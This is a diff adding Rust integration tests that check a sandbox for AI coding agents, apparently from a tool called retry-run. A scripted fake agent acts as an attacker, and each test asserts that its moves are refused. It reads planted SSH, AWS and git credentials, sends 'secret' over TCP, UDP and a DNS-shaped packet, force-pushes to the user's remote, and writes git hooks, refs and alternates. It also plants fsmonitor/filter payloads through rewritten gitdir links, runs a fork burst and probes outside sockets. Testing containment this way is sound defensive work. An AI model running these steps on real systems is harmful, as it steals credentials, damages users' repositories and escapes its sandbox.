@@ -1,0 +1,417 @@
+//! Containment under the default sandbox (namespaces with Landlock inside),
+//! tried as an attacker would: an agent (a script) that reads the user's
+//! secrets and sends them over TCP, UDP and a DNS-shaped packet to
+//! listeners on 127.0.0.1, pushes to the user's remote, tampers with the
+//! object store, rewrites its git links before a `worktree.setup` and a
+//! verifier run, talks to sockets outside, forks without end and writes
+//! `/dev/shm` and `/tmp`. Each is refused, and afterwards the checkout,
+//! the object store, the remote, `HOME` and the machine's processes are as
+//! before; a legitimate agent still commits in its worktree and reaches an
+//! allowed host through the proxy. The same agent under the fallback
+//! (namespaces refused) is refused what the fallback can refuse.
+
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use crate::support::record::{first, outcomes};
+use crate::support::{FakeAgent, Run, TestEnv};
+
+fn namespaces_here() -> bool {
+    retry_run::sandbox::namespaces::probe().is_ok()
+}
+
+fn repo(env: &TestEnv, toml: &str) -> PathBuf {
+    env.repo("repo")
+        .file("src/app.txt", "value = 1\n")
+        .file("notes.txt", "the user's notes\n")
+        .file("retry-run.toml", toml)
+        .commit()
+}
+
+/// A secret in the test's `HOME` and the listeners it could be sent to.
+struct Exfil {
+    tcp: TcpListener,
+    udp: UdpSocket,
+}
+
+impl Exfil {
+    fn new() -> Exfil {
+        let tcp = TcpListener::bind("127.0.0.1:0").expect("tcp listener");
+        tcp.set_nonblocking(true).expect("nonblocking");
+        let udp = UdpSocket::bind("127.0.0.1:0").expect("udp socket");
+        udp.set_nonblocking(true).expect("nonblocking");
+        Exfil { tcp, udp }
+    }
+
+    fn ports(&self) -> (u16, u16) {
+        (self.tcp.local_addr().expect("addr").port(), self.udp.local_addr().expect("addr").port())
+    }
+
+    /// What reached the listeners.
+    fn received(&self) -> Vec<String> {
+        let mut got = Vec::new();
+        while let Ok((mut s, _)) = self.tcp.accept() {
+            let mut buf = String::new();
+            let _ = s.set_nonblocking(false);
+            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
+            let _ = s.read_to_string(&mut buf);
+            got.push(format!("tcp: {buf}"));
+        }
+        let mut buf = [0u8; 2048];
+        while let Ok(n) = self.udp.recv(&mut buf) {
+            got.push(format!("udp: {}", String::from_utf8_lossy(&buf[..n])));
+        }
+        got
+    }
+}
+
+/// A python3 one-liner run by the agent; its outcome goes to `results.txt`.
+fn attempt(name: &str, py: &str) -> String {
+    format!(
+        "if python3 -c {py:?} 2>>errors.txt; then echo '{name}: ok' >> results.txt; else echo '{name}: refused' >> results.txt; fi"
+    )
+}
+
+fn plant_secrets(env: &TestEnv) {
+    let home = env.home();
+    for (rel, text) in [
+        (".ssh/id_ed25519", "PRIVATE KEY"),
+        (".aws/credentials", "aws_secret"),
+        (".git-credentials", "https://u:token@host"),
+        ("other-project/.env", "OTHER_PROJECT_TOKEN=s3cret"),
+    ] {
+        let p = home.join(rel);
+        std::fs::create_dir_all(p.parent().expect("a parent")).expect("mkdir");
+        std::fs::write(&p, text).expect("plant");
+    }
+}
+
+#[test]
+fn secrets_neither_read_nor_sent_over_tcp_udp_or_dns() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here (bubblewrap missing or user namespaces refused)");
+        return;
+    }
+    let env = TestEnv::new();
+    plant_secrets(&env);
+    let ex = Exfil::new();
+    let (tcp, udp) = ex.ports();
+    let r = repo(&env, "max_attempts = 1\n");
+    let read = r#"for f in .ssh/id_ed25519 .aws/credentials .git-credentials other-project/.env; do if cat "$HOME/$f" >/dev/null 2>&1; then echo "$f: read"; else echo "$f: refused"; fi; done >> results.txt"#;
+    let dns = "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01";
+    let agent = env.agent(
+        FakeAgent::new()
+            .sh(read)
+            .sh(&attempt("tcp", &format!("import socket; s=socket.create_connection(('127.0.0.1',{tcp}),2); s.sendall(b'secret')")))
+            .sh(&attempt("udp", &format!("import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'secret',('127.0.0.1',{udp}))")))
+            .sh(&attempt("dns", &format!("import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'{dns}',('127.0.0.1',{udp}))")))
+            .sh(&attempt("resolve", "import socket; socket.getaddrinfo('example.com', 443)"))
+            .append("src/app.txt", "value = 2\n"),
+    );
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Exfil"])));
+    run.assert_code(0);
+    let res = env.git(&r, &["show", "refs/retry-run/exfil/1:results.txt"]);
+    for refused in [".ssh/id_ed25519", ".aws/credentials", ".git-credentials", "other-project/.env", "tcp", "resolve"] {
+        assert!(res.contains(&format!("{refused}: refused")), "{refused} was not refused:\n{res}");
+    }
+    // A datagram to 127.0.0.1 inside the namespace is "sent" to its own
+    // loopback: the point is that none arrives here.
+    assert_eq!(ex.received(), Vec::<String>::new(), "something left the sandbox:\n{res}");
+    let started = first(&r, "exfil", "AgentStarted");
+    let layers = &started["sandbox"]["layers"];
+    assert_eq!(layers["namespaces"], serde_json::json!(["user", "mount", "pid", "ipc", "uts", "net"]), "{started}");
+    assert!(layers["landlock_abi"].as_u64().is_some_and(|a| a >= 1), "{started}");
+    assert!(layers["seccomp_denies"].as_array().is_some_and(|d| d.iter().any(|x| x == "unix")), "{started}");
+}
+
+#[test]
+fn an_allowed_host_is_reached_through_the_proxy_and_a_refused_one_is_recorded() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here");
+        return;
+    }
+    let env = TestEnv::new();
+    let server = TcpListener::bind("127.0.0.1:0").expect("http server");
+    let port = server.local_addr().expect("addr").port();
+    std::thread::spawn(move || {
+        for s in server.incoming().flatten() {
+            let mut s = s;
+            let mut buf = [0u8; 4096];
+            let _ = std::io::Read::read(&mut s, &mut buf);
+            let _ = std::io::Write::write_all(&mut s, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
+        }
+    });
+    let r = repo(&env, &format!("max_attempts = 1\n[sandbox]\nnetwork = [\"127.0.0.1:{port}\"]\n"));
+    let get = |url: &str| {
+        format!("import urllib.request; print(urllib.request.urlopen({url:?}, timeout=5).read().decode())")
+    };
+    let agent = env.agent(
+        FakeAgent::new()
+            .sh(&format!("python3 -c {:?} > fetched.txt 2>&1 || true", get(&format!("http://127.0.0.1:{port}/"))))
+            .sh(&attempt("refused-host", &get("http://refused.example/")))
+            .append("src/app.txt", "value = 2\n"),
+    );
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Net"])));
+    run.assert_code(0);
+    let fetched = env.git(&r, &["show", "refs/retry-run/net/1:fetched.txt"]);
+    assert_eq!(fetched.trim(), "hello", "{fetched}");
+    let res = env.git(&r, &["show", "refs/retry-run/net/1:results.txt"]);
+    assert!(res.contains("refused-host: refused"), "{res}");
+    let done = first(&r, "net", "AgentFinished");
+    let text = done.to_string();
+    assert!(text.contains("refused.example:80"), "the refused host is not in the record: {text}");
+    let report = env.run(&r, &["report", "net"]);
+    assert!(report.stdout.contains("refused.example:80") && report.stdout.contains("[sandbox] network"), "{}", report.stdout);
+}
+
+#[test]
+fn a_push_to_the_users_remote_is_refused() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here");
+        return;
+    }
+    let env = TestEnv::new();
+    let r = repo(&env, "max_attempts = 1\n");
+    let remote = env.path("remote.git");
+    env.git(env.root(), &["clone", "-q", "--bare", &r.display().to_string(), &remote.display().to_string()]);
+    let port = TcpListener::bind("127.0.0.1:0").expect("a free port").local_addr().expect("addr").port();
+    let mut daemon = env
+        .command("git", env.root())
+        .args(["daemon", "--reuseaddr", "--listen=127.0.0.1", &format!("--port={port}"), "--export-all"])
+        .args(["--enable=receive-pack", &format!("--base-path={}", env.root().display())])
+        .spawn()
+        .expect("git daemon");
+    let url = format!("git://127.0.0.1:{port}/remote.git");
+    env.git(&r, &["remote", "add", "origin", &url]);
+    // The daemon is up once a push from outside works (an empty one).
+    let ready = (0..100).any(|_| {
+        std::thread::sleep(Duration::from_millis(50));
+        env.git_raw(&r, [std::ffi::OsStr::new("ls-remote"), std::ffi::OsStr::new(&url)]).status.success()
+    });
+    assert!(ready, "git daemon did not start");
+    let before = env.git(&remote, &["rev-parse", "main"]);
+    let agent = env.agent(
+        FakeAgent::new()
+            .append("src/app.txt", "value = 2\n")
+            .sh("git -c user.name=a -c user.email=a@b commit -qam evil")
+            .sh("if git push -q --force origin HEAD:main 2>>errors.txt; then echo 'push: ok'; else echo 'push: refused'; fi > results.txt"),
+    );
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Push"])));
+    let _ = daemon.kill();
+    let _ = daemon.wait();
+    run.assert_code(0);
+    let res = env.git(&r, &["show", "refs/retry-run/push/1:results.txt"]);
+    assert!(res.contains("push: refused"), "{res}");
+    assert_eq!(env.git(&remote, &["rev-parse", "main"]), before, "the remote's main moved");
+}
+
+#[test]
+fn the_object_store_refs_and_config_cannot_be_touched_but_a_commit_in_the_worktree_works() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here");
+        return;
+    }
+    let env = TestEnv::new();
+    let r = repo(&env, "max_attempts = 1\n");
+    // One pack and the HEAD commit's objects loose, as a user's repository has them.
+    env.git(&r, &["gc", "-q"]);
+    std::fs::write(r.join("notes.txt"), "the user's notes, v2\n").expect("write");
+    env.git(&r, &["commit", "-qam", "v2"]);
+    let blob = env.git(&r, &["rev-parse", "HEAD:notes.txt"]).trim().to_string();
+    let loose = r.join(".git/objects").join(&blob[..2]).join(&blob[2..]);
+    assert!(loose.is_file(), "the test needs a loose object");
+    let pack = std::fs::read_dir(r.join(".git/objects/pack"))
+        .expect("packs")
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| p.extension().is_some_and(|x| x == "pack"))
+        .expect("a pack");
+    let git = r.join(".git");
+    let tries = [
+        ("replace-blob", format!("chmod u+w {0}; printf x > {0}", loose.display())),
+        ("delete-object", format!("rm -f {}", loose.display())),
+        ("overwrite-pack", format!("chmod u+w {0}; printf x > {0}", pack.display())),
+        ("alternates", format!("echo /tmp > {}/objects/info/alternates", git.display())),
+        ("ref", format!("echo 0000000000000000000000000000000000000000 > {}/refs/heads/main", git.display())),
+        ("config", format!("echo '[core]' >> {}/config", git.display())),
+        ("hook", format!("echo 'echo owned' > {}/hooks/post-checkout", git.display())),
+        ("unset-quarantine", "env -u GIT_OBJECT_DIRECTORY -u GIT_ALTERNATE_OBJECT_DIRECTORIES git hash-object -w notes.txt".into()),
+    ];
+    let mut agent = FakeAgent::new();
+    for (name, cmd) in &tries {
+        agent = agent.sh(&format!(
+            "if ( {cmd} ) 2>>errors.txt; then echo '{name}: ok' >> results.txt; else echo '{name}: refused' >> results.txt; fi"
+        ));
+    }
+    let agent = env.agent(
+        agent
+            .append("src/app.txt", "value = 2\n")
+            .sh("git add src/app.txt && git -c user.name=a -c user.email=a@b commit -qm agent && echo 'commit: ok' >> results.txt"),
+    );
+    let head_tree = |env: &TestEnv| env.git(&r, &["rev-parse", "HEAD^{tree}", "main"]);
+    let before = head_tree(&env);
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Odb"])));
+    run.assert_code(0);
+    let res = env.git(&r, &["show", "refs/retry-run/odb/1:results.txt"]);
+    for (name, _) in &tries {
+        assert!(res.contains(&format!("{name}: refused")), "{name} was not refused:\n{res}");
+    }
+    assert!(res.contains("commit: ok"), "{res}");
+    assert_eq!(head_tree(&env), before, "a ref of the user's moved");
+    assert_eq!(env.git(&r, &["show", "HEAD:notes.txt"]), "the user's notes, v2\n");
+    let fsck = env.git_raw(&r, ["fsck", "--strict"].into_iter().map(std::ffi::OsStr::new));
+    assert!(fsck.status.success(), "git fsck: {}", String::from_utf8_lossy(&fsck.stderr));
+    assert!(!git.join("objects/info/alternates").exists());
+    // The agent's commit came in through the quarantine, checked.
+    assert_eq!(env.git(&r, &["show", "refs/retry-run/odb/1:src/app.txt"]), "value = 1\nvalue = 2\n");
+}
+
+#[test]
+fn rewritten_git_links_run_nothing_unconfined_in_the_next_setup_or_the_verifier() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here");
+        return;
+    }
+    let env = TestEnv::new();
+    let marker = env.path("owned.txt");
+    let payload = env.write("payload.sh", format!("#!/bin/sh\necho owned >> {}\n", marker.display()));
+    std::fs::set_permissions(&payload, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
+    let toml = "max_attempts = 2\n[worktree]\nsetup = \"git status --short >/dev/null\"\n\
+                [[check]]\nname = \"t\"\nkind = \"test\"\nrun = \"grep -q fixed src/app.txt\"\n\
+                [verifier]\nretries = 0\nrun = \"git status --short >/dev/null; echo '{\\\"verdict\\\": \\\"approved\\\"}'\"\n";
+    let r = repo(&env, toml);
+    std::fs::write(r.join("notes.txt"), "a staged edit\n").expect("write");
+    env.git(&r, &["add", "notes.txt"]);
+    let user = |env: &TestEnv| (env.git(&r, &["rev-parse", "HEAD"]), env.git(&r, &["diff", "--cached"]));
+    let before = user(&env);
+    let fake = "$TMPDIR/fake";
+    let agent = env.agent(
+        FakeAgent::new()
+            .append("src/app.txt", "wrong\n")
+            .sh(&format!(
+                "mkdir -p {fake}/objects {fake}/refs && echo 'ref: refs/heads/main' > {fake}/HEAD && \
+                 printf '[core]\\n\\tfsmonitor = {}\\n[filter \"x\"]\\n\\tclean = {}\\n' > {fake}/config",
+                payload.display(),
+                payload.display()
+            ))
+            .sh(&format!(
+                "(echo \"{fake}\" > \"$(git rev-parse --git-dir)/commondir\") 2>/dev/null; echo 'commondir tried' > tried.txt"
+            ))
+            .sh(&format!("(printf 'gitdir: {}/.git\\n' > .git) 2>/dev/null; true", r.display()))
+            .next_call()
+            .append("src/app.txt", "fixed\n"),
+    );
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Links"])));
+    run.assert_code(0);
+    assert!(!marker.exists(), "the agent's code ran outside the sandbox:\n{}", run.stderr);
+    assert_eq!(user(&env), before, "the user's HEAD or staged work changed");
+    assert_eq!(outcomes(&r, "links").last().map(String::as_str), Some("SUCCESS"));
+    let link = std::fs::read_to_string(r.join(".git/retry-run/worktrees/links/.git")).expect(".git file");
+    assert!(link.contains("/worktrees/retry-run-links"), "{link}");
+}
+
+#[test]
+fn sockets_outside_are_unreachable_named_or_abstract() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here");
+        return;
+    }
+    use std::os::linux::net::SocketAddrExt;
+    use std::os::unix::net::{SocketAddr, UnixListener};
+    let env = TestEnv::new();
+    let named = env.home().join("agent.sock");
+    let named_l = UnixListener::bind(&named).expect("named socket");
+    named_l.set_nonblocking(true).expect("nonblocking");
+    let abstract_name = format!("retry-run-test-{}", std::process::id());
+    let abstract_l =
+        UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes()).expect("name")).expect("abstract");
+    abstract_l.set_nonblocking(true).expect("nonblocking");
+    let r = repo(&env, "max_attempts = 1\n");
+    let agent = env.agent(
+        FakeAgent::new()
+            .sh(&attempt(
+                "named",
+                &format!("import socket; s=socket.socket(socket.AF_UNIX); s.connect({:?}); s.sendall(b'rm -rf /')", named.display().to_string()),
+            ))
+            .sh(&attempt(
+                "abstract",
+                &format!("import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0{abstract_name}'); s.sendall(b'x')"),
+            ))
+            .append("src/app.txt", "value = 2\n"),
+    );
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Sock"])));
+    run.assert_code(0);
+    let res = env.git(&r, &["show", "refs/retry-run/sock/1:results.txt"]);
+    assert!(res.contains("named: refused") && res.contains("abstract: refused"), "{res}");
+    assert!(named_l.accept().is_err() && abstract_l.accept().is_err(), "a connection reached a socket outside");
+}
+
+#[test]
+fn a_fork_burst_meets_the_process_limit_and_shm_and_tmp_are_private() {
+    if !namespaces_here() {
+        eprintln!("SKIPPED: namespaces cannot be made here");
+        return;
+    }
+    let env = TestEnv::new();
+    let shm_marker = PathBuf::from(format!("/dev/shm/retry-run-test-{}", std::process::id()));
+    std::fs::write(&shm_marker, "another program's").expect("a file in /dev/shm");
+    let tmp_marker = format!("/tmp/retry-run-test-agent-{}", std::process::id());
+    let r = repo(&env, "max_attempts = 1\n[sandbox]\nmax_processes = 50\n");
+    let agent = env.agent(
+        FakeAgent::new()
+            .sh("i=0; while [ $i -lt 400 ]; do (sleep 2 &) 2>/dev/null; i=$((i+1)); done; true")
+            .sh(&format!(
+                "if cat {} >/dev/null 2>&1; then echo 'shm-read: ok'; else echo 'shm-read: refused'; fi >> results.txt",
+                shm_marker.display()
+            ))
+            .sh("echo mine > /dev/shm/agent-file && echo 'shm-write: private' >> results.txt")
+            .sh(&format!("echo mine > {tmp_marker} && echo 'tmp-write: private' >> results.txt"))
+            .append("src/app.txt", "value = 2\n"),
+    );
+    let run = Run::of(env.retry_run(&r).args(agent.after(&["run", "--quiet", "--task", "Burst"])));
+    let _ = std::fs::remove_file(&shm_marker);
+    run.assert_code(0);
+    let res = env.git(&r, &["show", "refs/retry-run/burst/1:results.txt"]);
+    assert!(res.contains("shm-read: refused"), "{res}");
+    assert!(!Path::new("/dev/shm/agent-file").exists(), "the agent's /dev/shm is the machine's");
+    assert!(!Path::new(&tmp_marker).exists(), "the agent's /tmp is the machine's");
+    let done = first(&r, "burst", "AgentFinished");
+    let hits = done.to_string();
+    if retry_run::sandbox::limits::PidsCgroup::new(10).is_some() {
+        assert!(hits.contains("the process limit (50) refused"), "{hits}");
+    }
+}
+
+/// Where namespaces are refused (simulated: no bubblewrap), the fallback
+/// (Landlock and seccomp) still refuses TCP but to the proxy, UDP and
+/// UNIX sockets, and says so once.
+#[test]
+fn the_fallback_without_namespaces_refuses_the_network_and_says_so() {
+    if retry_run::sandbox::landlock::abi() < 4 {
+        eprintln!("SKIPPED: Landlock ABI 4 (network rules) is needed");
+        return;
+    }
+    let env = TestEnv::new();
+    let ex = Exfil::new();
+    let (tcp, udp) = ex.ports();
+    let r = repo(&env, "max_attempts = 1\n");
+    let agent = env.agent(
+        FakeAgent::new()
+            .sh(&attempt("tcp", &format!("import socket; s=socket.create_connection(('127.0.0.1',{tcp}),2); s.sendall(b'secret')")))
+            .sh(&attempt("udp", &format!("import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'secret',('127.0.0.1',{udp}))")))
+            .sh(&attempt("unix", "import socket; socket.socket(socket.AF_UNIX)"))
+            .append("src/app.txt", "value = 2\n"),
+    );
+    let run = Run::of(env.retry_run(&r).env("RETRY_RUN_BWRAP", "").args(agent.after(&["run", "--task", "Fallback"])));
+    run.assert_code(0);
+    assert_eq!(run.stderr.matches("namespaces cannot be used").count(), 1, "{}", run.stderr);
+    let res = env.git(&r, &["show", "refs/retry-run/fallback/1:results.txt"]);
+    for refused in ["tcp", "udp", "unix"] {
+        assert!(res.contains(&format!("{refused}: refused")), "{refused} was not refused:\n{res}");
+    }
+    assert_eq!(ex.received(), Vec::<String>::new());
+    let started = first(&r, "fallback", "AgentStarted");
+    assert_eq!(started["sandbox"]["mode"], "landlock", "{started}");
+}
